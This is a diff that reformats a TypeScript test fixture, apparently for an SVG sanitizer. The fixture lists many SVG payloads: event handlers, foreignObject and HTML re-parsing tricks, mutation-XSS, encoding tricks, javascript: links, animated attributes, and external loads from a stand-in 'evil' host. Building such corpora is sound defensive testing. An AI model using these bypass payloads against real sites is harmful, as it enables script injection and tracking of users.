@@ -9,7 +9,8 @@ const img = '<img src="x" onerror="hit()"/>'
 /** A drawing with something in it. */
 export const svg = (inside: string) => `<svg ${svgNs} ${xlinkNs} width="90" height="60">${ground}${inside}</svg>`
 
-const each = (names: readonly string[], make: (name: string) => string) => Object.fromEntries(names.map((name) => [name, make(name)]))
+const each = (names: readonly string[], make: (name: string) => string) =>
+  Object.fromEntries(names.map((name) => [name, make(name)]))
 const utf16 = (text: string, mark: string) => Buffer.from(mark + text, 'utf16le')
 const latin1 = (text: string) => Buffer.from(text, 'latin1')
 
@@ -31,18 +32,27 @@ export const families = {
     iframe: svg(`<iframe ${html} src="${evil}"/>`),
     'iframe srcdoc': svg(`<iframe ${html} srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"/>`),
     'embed and object': svg(`<embed ${html} src="${evil}/a.swf"/><object ${html} data="${evil}/a.html"/>`),
-    'audio, video and track': svg(`<audio ${html} src="${evil}/a.mp3"/><video ${html} src="${evil}/a.mp4" poster="${evil}/p.png"/>`),
-    'link and meta': svg(`<link ${html} rel="stylesheet" href="${evil}/a.css"/><meta ${html} http-equiv="refresh" content="0;url=${evil}"/>`),
+    'audio, video and track': svg(
+      `<audio ${html} src="${evil}/a.mp3"/><video ${html} src="${evil}/a.mp4" poster="${evil}/p.png"/>`,
+    ),
+    'link and meta': svg(
+      `<link ${html} rel="stylesheet" href="${evil}/a.css"/><meta ${html} http-equiv="refresh" content="0;url=${evil}"/>`,
+    ),
   },
   handlers: {
     onload: `<svg ${svgNs} onload="hit()">${ground}</svg>`,
     'onclick with entities': svg('<rect width="90" height="60" onclick="&#104;it()"/>'),
     'mixed case': `<svg ${svgNs} onLoad="hit()" ONCLICK="hit()">${box}</svg>`,
     ...each(['onmouseover', 'onmousedown', 'onfocusin', 'onpointerenter', 'onactivate'], (name) =>
-      svg(`<rect width="90" height="60" tabindex="0" ${name}="hit()"/>`)),
-    'onfocus by autofocus': svg('<a href="#" tabindex="0" autofocus="autofocus" onfocus="hit()"><text y="20">a</text></a>'),
+      svg(`<rect width="90" height="60" tabindex="0" ${name}="hit()"/>`),
+    ),
+    'onfocus by autofocus': svg(
+      '<a href="#" tabindex="0" autofocus="autofocus" onfocus="hit()"><text y="20">a</text></a>',
+    ),
     'onbegin of an animation': svg('<animate onbegin="hit()" attributeName="x" dur="1s"/>'),
-    'onend and onrepeat': svg('<animate onend="hit()" onrepeat="hit()" attributeName="x" dur="0.01s" repeatCount="3"/>'),
+    'onend and onrepeat': svg(
+      '<animate onend="hit()" onrepeat="hit()" attributeName="x" dur="0.01s" repeatCount="3"/>',
+    ),
     'onerror of a picture': svg('<image href="data:image/png;base64,AAAA" onerror="hit()" width="9" height="9"/>'),
     'onload of a style': svg('<style onload="hit()">a{}</style>'),
     'on with a line break': svg('<rect width="90" height="60"\nonclick\n=\n"hit()"/>'),
@@ -53,9 +63,15 @@ export const families = {
     'without a namespace': svg(`<foreignObject width="90" height="60">${img}</foreignObject>`),
     'in lower case': svg(`<foreignobject width="90" height="60">${img}</foreignobject>`),
     'svg within it': svg(`<foreignObject><svg ${svgNs} onload="hit()"/></foreignObject>`),
-    'requiredExtensions': svg(`<switch><foreignObject requiredExtensions="x">${img}</foreignObject><g>${img}</g></switch>`),
-    'form and button': svg(`<foreignObject width="90" height="60"><form ${html} action="javascript:hit()"><button style="width:90px;height:60px">a</button></form></foreignObject>`),
-    'annotation of MathML': svg(`<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html">${img}</annotation-xml></math>`),
+    requiredExtensions: svg(
+      `<switch><foreignObject requiredExtensions="x">${img}</foreignObject><g>${img}</g></switch>`,
+    ),
+    'form and button': svg(
+      `<foreignObject width="90" height="60"><form ${html} action="javascript:hit()"><button style="width:90px;height:60px">a</button></form></foreignObject>`,
+    ),
+    'annotation of MathML': svg(
+      `<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html">${img}</annotation-xml></math>`,
+    ),
   },
   'HTML re-parsing': {
     'style in a title': svg('<title><style><!--</style><img src=x onerror=hit()>--></style></title>'),
@@ -63,14 +79,19 @@ export const families = {
     'style with CDATA in a title': svg('<title><style><![CDATA[</style><img src=x onerror=hit()>]]></style></title>'),
     'title with HTML': svg('<title><![CDATA[</title><img src=x onerror=hit()>]]></title>'),
     'title in a title': svg('<title><title>&lt;/title><![CDATA[<img src=x onerror=hit()>]]></title></title>'),
-    'comment in a title of a title': svg('<title><title><!--</title></title><img src=x onerror=hit()>--></title></title>'),
+    'comment in a title of a title': svg(
+      '<title><title><!--</title></title><img src=x onerror=hit()>--></title></title>',
+    ),
     'image in a desc': svg(`<desc><image src="x" onerror="hit()" srcset="${evil}/1.png"/></desc>`),
     'srcset in a desc': svg(`<desc><image srcset="${evil}/2.png 1x"/></desc>`),
     'srcset in a title': svg(`<title><image srcset="${evil}/3.png 1x"/></title>`),
     'picture by style in a desc': svg(`<desc><g style="background:red"/><image srcset="${evil}/4.png"/></desc>`),
     'a in a desc': svg('<desc><a href="#"><animate attributeName="x"/></a><style>@import</style></desc>'),
-    ...each(['xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'textarea', 'plaintext', 'select', 'template', 'listing'], (name) =>
-      svg(`<desc><${name}><g title="&lt;/${name}>"><!--</${name}><img src=x onerror=hit()>--></g></${name}></desc>`)),
+    ...each(
+      ['xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'textarea', 'plaintext', 'select', 'template', 'listing'],
+      (name) =>
+        svg(`<desc><${name}><g title="&lt;/${name}>"><!--</${name}><img src=x onerror=hit()>--></g></${name}></desc>`),
+    ),
     'comment that HTML ends': svg('<!--> <img src="x" onerror="hit()"/> -->'),
     'comment that HTML ends at a dash': svg('<!---> <img src="x" onerror="hit()"/> -->'),
     'comment that HTML ends with a mark': svg('<!-- --!> <img src="x" onerror="hit()"/> -->'),
@@ -82,23 +103,37 @@ export const families = {
     'instruction before the drawing': `<?x ><img src=x onerror=hit()> ?>${svg('')}`,
   },
   breakout: {
-    ...each(['p', 'b', 'div', 'table', 'ul', 'h1', 'br', 'span', 'center', 'meta', 'body', 'head', 'ruby', 'pre'], (name) =>
-      svg(`<g><${name}/>${img}</g>`)),
+    ...each(
+      ['p', 'b', 'div', 'table', 'ul', 'h1', 'br', 'span', 'center', 'meta', 'body', 'head', 'ruby', 'pre'],
+      (name) => svg(`<g><${name}/>${img}</g>`),
+    ),
     'img alone': svg(img),
     'font with a colour': svg('<font color="red"><style><!--</style><img src=x onerror=hit()>--></style></font>'),
-    'font with a face': svg('<font face="a"><title><g id="&lt;/title>"/><!--</title><img src=x onerror=hit()>--></title></font>'),
+    'font with a face': svg(
+      '<font face="a"><title><g id="&lt;/title>"/><!--</title><img src=x onerror=hit()>--></title></font>',
+    ),
     'font with a size': svg('<font size="1"><script>hit()</script></font>'),
     'end of p': svg(`</p>${img}`),
     'end of br': svg(`</br>${img}`),
   },
   mXSS: {
-    'MathML and style': svg('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"></math>'),
-    'form in a form': svg('<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()></style></mglyph></form></mtext></math></form>'),
+    'MathML and style': svg(
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"></math>',
+    ),
+    'form in a form': svg(
+      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()></style></mglyph></form></mtext></math></form>',
+    ),
     'p in a desc': svg('<desc><p><svg><style><a id="</style><img src=1 onerror=hit()>"></a></style></svg></p></desc>'),
     'noscript with a title': svg('<noscript><p title="</noscript><img src=x onerror=hit()>"></p></noscript>'),
-    'template in a desc': svg('<desc><template><s><template><s><img src=x onerror=hit()>@shafigullin</s></template></s></template></desc>'),
-    'select in a desc': svg('<desc><select><option><style></option></select><img src=x onerror=hit()></style></option></select></desc>'),
-    'table that fosters': svg('<desc><table><tr><td><svg><title><table><a><img src=x onerror=hit()></a></table></title></svg></td></tr></table></desc>'),
+    'template in a desc': svg(
+      '<desc><template><s><template><s><img src=x onerror=hit()>@shafigullin</s></template></s></template></desc>',
+    ),
+    'select in a desc': svg(
+      '<desc><select><option><style></option></select><img src=x onerror=hit()></style></option></select></desc>',
+    ),
+    'table that fosters': svg(
+      '<desc><table><tr><td><svg><title><table><a><img src=x onerror=hit()></a></table></title></svg></td></tr></table></desc>',
+    ),
     'style in a style': svg(`<style><style></style>@import "${evil}/nested.css";</style>`),
     'style broken by an element': svg(`<style>@imp<g/>ort "${evil}/broken.css";</style>`),
     'style in MathML': svg('<math><style><img src=x onerror=hit()></style></math>'),
@@ -118,7 +153,9 @@ export const families = {
     'XLink of another prefix': svg(`<a xmlns:y="http://www.w3.org/1999/xlink" y:href="javascript:hit()">${box}</a>`),
     'inert prefix of an element that HTML knows': `<p:svg xmlns:p="http://www.w3.org/2000/svg" xmlns="http://ns.adobe.com/x"><img src="x" onerror="hit()"/></p:svg>`,
     'xlink unbound': `<svg ${svgNs}><a xlink:href="javascript:hit()">${box}</a></svg>`,
-    'xmlns of XML events': svg('<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#x"/><script id="x">hit()</script>'),
+    'xmlns of XML events': svg(
+      '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#x"/><script id="x">hit()</script>',
+    ),
   },
   entities: {
     entities: `<!DOCTYPE svg [<!ENTITY a "hit()">]>${svg('')}`,
@@ -141,10 +178,18 @@ export const families = {
     'UTF-16 with a mark': utf16(svg('<script>hit()</script>'), '\ufeff'),
     'UTF-16 without a mark': utf16(`<?xml version="1.0" encoding="UTF-16"?>${svg('<script>hit()</script>')}`, ''),
     'UTF-16 declared in ASCII': `<?xml version="1.0" encoding="UTF-16"?>${svg('<script>hit()</script>')}`,
-    'ISO-2022-JP': latin1(`<?xml version="1.0" encoding="ISO-2022-JP"?>${svg('<g id="\x1b$B"/><g id="\x1b(B onclick=hit`` "/>')}`),
-    'Shift_JIS that eats a quote': latin1(`<?xml version="1.0" encoding="Shift_JIS"?>${svg('<rect width="90" height="60" id="\x83" onclick="hit()" class="a"/>')}`),
+    'ISO-2022-JP': latin1(
+      `<?xml version="1.0" encoding="ISO-2022-JP"?>${svg('<g id="\x1b$B"/><g id="\x1b(B onclick=hit`` "/>')}`,
+    ),
+    'Shift_JIS that eats a quote': latin1(
+      `<?xml version="1.0" encoding="Shift_JIS"?>${svg('<rect width="90" height="60" id="\x83" onclick="hit()" class="a"/>')}`,
+    ),
     'bytes that are no UTF-8': latin1(svg('<g id="\xff\xfe"/><script>hit()</script>')),
-    'overlong bytes': Buffer.concat([Buffer.from(svg('').slice(0, -6)), Buffer.from([0xc0, 0xbc]), Buffer.from('script>hit``</script></svg>')]),
+    'overlong bytes': Buffer.concat([
+      Buffer.from(svg('').slice(0, -6)),
+      Buffer.from([0xc0, 0xbc]),
+      Buffer.from('script>hit``</script></svg>'),
+    ]),
     'meta charset': svg('<meta charset="utf-7"/>+ADw-img src=x onerror=hit``+AD4-'),
     'XML 1.1 with its own line end': `<?xml version="1.1"?>${svg('<rect\u0085width="90"\u2028height="60" onclick="hit()"/>')}`,
     'two marks': `\ufeff\ufeff${svg('<script>hit()</script>')}`,
@@ -156,7 +201,9 @@ export const families = {
     'javascript link behind controls': svg('<a href="&#x20;&#x9;javascript:hit()"><rect width="90" height="60"/></a>'),
     'javascript link in upper case': svg('<a href="JaVaScRiPt:hit()"><rect width="90" height="60"/></a>'),
     'vbscript link': svg('<a href="vbscript:hit()"><rect width="90" height="60"/></a>'),
-    'link as data': svg('<a href="data:text/html,&lt;script&gt;opener.hit()&lt;/script&gt;"><rect width="90" height="60"/></a>'),
+    'link as data': svg(
+      '<a href="data:text/html,&lt;script&gt;opener.hit()&lt;/script&gt;"><rect width="90" height="60"/></a>',
+    ),
     'link elsewhere': svg(`<a href="${evil}/page"><rect width="90" height="60"/></a>`),
     'link without a scheme': svg('<a href="//evil.example/page"><rect width="90" height="60"/></a>'),
     ping: svg(`<a href="#ground" ping="${evil}/ping"><rect width="90" height="60"/></a>`),
@@ -166,18 +213,40 @@ export const families = {
   },
   animation: {
     'animated link': svg('<a><animate attributeName="href" to="javascript:hit()"/><rect width="90" height="60"/></a>'),
-    'animated link of XLink': svg('<a><animate attributeName="xlink:href" values="javascript:hit();#a" dur="9s"/><rect width="90" height="60"/></a>'),
-    'animated link in upper case': svg('<a><set attributeName="HREF" to="javascript:hit()"/><rect width="90" height="60"/></a>'),
-    'animated link with a space': svg('<a><set attributeName=" href " to="javascript:hit()"/><rect width="90" height="60"/></a>'),
-    'animated by reference': svg('<a id="l" href="#x"><rect width="90" height="60"/></a><set href="#l" attributeName="href" to="javascript:hit()"/>'),
-    'animated from and by': svg('<a><animate attributeName="href" from="javascript:hit()" by="1" dur="9s"/><rect width="90" height="60"/></a>'),
+    'animated link of XLink': svg(
+      '<a><animate attributeName="xlink:href" values="javascript:hit();#a" dur="9s"/><rect width="90" height="60"/></a>',
+    ),
+    'animated link in upper case': svg(
+      '<a><set attributeName="HREF" to="javascript:hit()"/><rect width="90" height="60"/></a>',
+    ),
+    'animated link with a space': svg(
+      '<a><set attributeName=" href " to="javascript:hit()"/><rect width="90" height="60"/></a>',
+    ),
+    'animated by reference': svg(
+      '<a id="l" href="#x"><rect width="90" height="60"/></a><set href="#l" attributeName="href" to="javascript:hit()"/>',
+    ),
+    'animated from and by': svg(
+      '<a><animate attributeName="href" from="javascript:hit()" by="1" dur="9s"/><rect width="90" height="60"/></a>',
+    ),
     'set handler': svg('<set attributeName="onmouseover" to="hit()"/>'),
-    'set ping': svg(`<a href="#ground"><set attributeName="ping" to="${evil}/setping"/><rect width="90" height="60"/></a>`),
-    'set style': svg(`<rect width="90" height="60"><set attributeName="style" to="fill:url(${evil}/style.svg#a)"/></rect>`),
-    'animated picture': svg(`<image width="9" height="9"><animate attributeName="href" values="${evil}/an.png" dur="9s"/></image>`),
-    'animated fill': svg(`<rect width="90" height="60"><set attributeName="mask" to="u\\72l(${evil}/a.svg#b)"/></rect>`),
-    'animated values': svg(`<rect width="90" height="60"><animate attributeName="mask" values="url(#a;url(${evil}/a.svg#b)" dur="9s"/></rect>`),
-    'animated filter': svg(`<rect width="90" height="60"><set attributeName="filter" to="url(${evil}/f.svg#b)"/></rect>`),
+    'set ping': svg(
+      `<a href="#ground"><set attributeName="ping" to="${evil}/setping"/><rect width="90" height="60"/></a>`,
+    ),
+    'set style': svg(
+      `<rect width="90" height="60"><set attributeName="style" to="fill:url(${evil}/style.svg#a)"/></rect>`,
+    ),
+    'animated picture': svg(
+      `<image width="9" height="9"><animate attributeName="href" values="${evil}/an.png" dur="9s"/></image>`,
+    ),
+    'animated fill': svg(
+      `<rect width="90" height="60"><set attributeName="mask" to="u\\72l(${evil}/a.svg#b)"/></rect>`,
+    ),
+    'animated values': svg(
+      `<rect width="90" height="60"><animate attributeName="mask" values="url(#a;url(${evil}/a.svg#b)" dur="9s"/></rect>`,
+    ),
+    'animated filter': svg(
+      `<rect width="90" height="60"><set attributeName="filter" to="url(${evil}/f.svg#b)"/></rect>`,
+    ),
     'animated link of another prefix': svg(
       `<image xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9"><set attributeName="x:href" to="${evil}/a.png"/></image>`,
     ),
@@ -187,15 +256,25 @@ export const families = {
     'external picture of XLink': svg(`<image xlink:href="${evil}/pixel2.png" width="9" height="9"/>`),
     'external use': svg(`<use href="${evil}/a.svg#b"/>`),
     'data use': svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>'),
-    'data use with a script': svg(`<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg' onload='hit()'/%3E#x"/>`),
-    'picture as data of SVG': svg(`<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='hit()'/%3E" width="9" height="9"/>`),
-    'picture as data of two types': svg('<image href="data:image/png;x=y,text/html;base64,AAAA" width="9" height="9"/>'),
-    'external filter': svg('<filter id="f"><feImage href="//evil.example/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>'),
+    'data use with a script': svg(
+      `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg' onload='hit()'/%3E#x"/>`,
+    ),
+    'picture as data of SVG': svg(
+      `<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='hit()'/%3E" width="9" height="9"/>`,
+    ),
+    'picture as data of two types': svg(
+      '<image href="data:image/png;x=y,text/html;base64,AAAA" width="9" height="9"/>',
+    ),
+    'external filter': svg(
+      '<filter id="f"><feImage href="//evil.example/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
+    ),
     'external fill': svg(`<rect width="9" height="9" fill="url(${evil}/a.svg#b)"/>`),
     'external cursor': svg(`<rect width="90" height="60" cursor="image-set('${evil}/a.png' 1x), auto"/>`),
     'external mask': svg(`<rect width="90" height="60" mask="-webkit-image-set('${evil}/a.svg#b' 1x)"/>`),
     'external text path': svg(`<text><textPath href="${evil}/t.svg#p">a</textPath></text>`),
-    'external gradient': svg(`<linearGradient id="g" href="${evil}/g.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`),
+    'external gradient': svg(
+      `<linearGradient id="g" href="${evil}/g.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`,
+    ),
     'external motion': svg(`<g><animateMotion dur="1s"><mpath href="${evil}/m.svg#p"/></animateMotion></g>`),
     'stylesheet of XSL': `<?xml-stylesheet href="${evil}/a.xsl"?>${svg('')}`,
     'stylesheet of CSS': `<?xml-stylesheet type="text/css" href="${evil}/a.css"?>${svg('')}`,
@@ -205,7 +284,9 @@ export const families = {
     ...Object.fromEntries(
       ['fill', 'stroke', 'mask', 'filter', 'clip-path', 'marker-end', 'cursor'].map((name) => [
         `escape in ${name}`,
-        svg(`<path d="M0 0h90v60z" stroke-width="3" ${name}="u\\72l(${evil}/a.svg#b)${name === 'cursor' ? ', auto' : ''}"/>`),
+        svg(
+          `<path d="M0 0h90v60z" stroke-width="3" ${name}="u\\72l(${evil}/a.svg#b)${name === 'cursor' ? ', auto' : ''}"/>`,
+        ),
       ]),
     ),
     'style import': svg(`<style>@import "${evil}/a.css";</style>`),
@@ -218,7 +299,9 @@ export const families = {
     'style behind a comment': svg(`<style>/* url(# */ rect{mask:url(${evil}/a.svg#b)}</style>`),
     'style behind a text': svg(`<rect width="9" height="9" style="font-family:'url(#';mask:url(${evil}/a.svg#b)"/>`),
     'style attribute': svg(`<rect style="background:image-set('${evil}/a.png' 1x)"/>`),
-    'style font': svg(`<style>@font-face{font-family:x;src:url(${evil}/a.woff)} text{font-family:x}</style><text>a</text>`),
+    'style font': svg(
+      `<style>@font-face{font-family:x;src:url(${evil}/a.woff)} text{font-family:x}</style><text>a</text>`,
+    ),
     'style of a prefix': `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:style>@import "${evil}/x.css";</x:style></x:svg>`,
     'style that reads attributes': svg(`<style>rect[fill^="r"]{mask:url(${evil}/r)}</style>`),
     'style with a namespace': svg(`<style>@namespace "${evil}";@import "${evil}/n.css";</style>`),
